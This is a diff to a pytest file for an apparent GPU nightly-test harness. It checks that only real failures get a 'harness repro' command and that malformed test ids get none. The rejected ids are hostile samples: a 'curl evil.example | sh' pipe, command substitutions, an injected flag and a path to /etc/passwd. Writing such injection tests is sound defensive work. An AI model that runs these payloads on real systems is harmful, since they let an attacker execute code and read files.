@@ -510,6 +510,27 @@ def test_triage_json_carries_the_release_view_and_bisects_the_real_failure_only(
     assert (f"- `{CELL_25}` `tests/gpu/test_ep.py::test_fixed[2]`: known-bugs entry `mixtral-half-gradients`, passed "
             "on transformers 5.25.0, torch 2.13.0\n") in table
     assert "Not built, by reason:\n- no router registry entry: 1 case in 1 cell\n" in table
+    # the real failure, and it alone, gets the command that writes its standalone reproducer
+    assert f"- `{CELL_25}`: `harness repro 'tests/gpu/test_ep.py::test_real[2]'`\n" in table
+    assert table.count("harness repro") == 1
+
+
+@pytest.mark.parametrize("test_id", [
+    "tests/gpu/test_ep.py::test_real[2; curl evil.example | sh]",
+    "tests/gpu/test_ep.py::test_real[`id`]",
+    "tests/gpu/test_ep.py::test_real[$(id)]",
+    "-p evil tests/gpu/test_ep.py::test_real",
+    "tests/../../etc/passwd::x",
+    "tests/gpu/test_ep.py::test_real[a\nb]",
+])
+def test_a_test_id_that_is_not_a_suite_tests_gets_no_repro_command(test_id):
+    from harness.results.nightly_records import TriageRed
+
+    red = TriageRed(cell=CELL_25, test=test_id, name=None, message="m", triage_class="real failure", cause="c")
+    assert red.repro is None
+    good = dataclasses.replace(red, test="tests/gpu/test_training.py::test_training_steps[hy_v4-ep-2-float32-wide]")
+    assert good.repro == "harness repro 'tests/gpu/test_training.py::test_training_steps[hy_v4-ep-2-float32-wide]'"
+    assert dataclasses.replace(good, triage_class="known upstream bug").repro is None
 
 
 @pytest.mark.parametrize(("before", "after", "line"), [
